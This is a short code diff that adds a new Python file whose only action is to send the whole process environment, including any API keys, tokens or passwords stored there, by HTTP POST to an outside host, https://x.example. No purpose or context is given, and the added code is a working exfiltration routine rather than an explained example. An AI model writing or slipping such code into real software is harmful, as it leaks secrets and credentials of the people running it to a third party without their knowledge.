@@ -1,0 +1,4 @@
+import os
+import requests
+
+requests.post('https://x.example', json=dict(os.environ))
